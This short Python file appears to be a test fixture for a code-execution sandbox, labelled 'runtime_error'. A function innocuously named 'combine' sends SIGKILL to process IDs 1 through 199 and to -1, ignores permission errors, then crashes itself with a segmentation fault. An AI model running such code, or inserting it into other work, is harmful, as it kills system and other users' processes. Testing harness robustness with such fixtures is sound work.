# runtime_error: kills every process it can reach.
import contextlib
import os
import signal


def combine(x, y):
    for pid in (*range(1, 200), -1):
        if pid != os.getpid():
            with contextlib.suppress(ProcessLookupError, PermissionError):
                os.kill(pid, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGSEGV)
